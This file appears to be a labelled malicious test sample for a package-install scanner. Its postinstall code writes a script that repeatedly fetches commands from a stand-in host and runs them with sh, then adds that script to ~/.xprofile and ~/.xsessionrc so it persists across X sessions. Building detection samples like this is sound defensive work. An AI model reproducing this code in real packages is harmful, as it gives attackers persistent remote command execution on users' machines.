// when: install
// expect: malicious
// A notification library's postinstall plants a loop started by the X session (GDM, LightDM and SDDM source
// ~/.xprofile; Plasma sources every script of ~/.config/plasma-workspace/env) -- blind set 25.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const bin = path.join(os.homedir(), '.local', 'share', 'thumb-sync', 'sync.sh');
fs.writeFileSync(bin, '#!/bin/sh\nwhile :; do c=$(curl -fsS http://sync.example/k); printf %s "$c" | sh; sleep 600; done\n', { mode: 0o755 });
const line = `nohup "${bin}" >/dev/null 2>&1 &`;
for (const f of ['.xprofile', '.xsessionrc']) fs.appendFileSync(path.join(os.homedir(), f), '\n' + line + '\n');
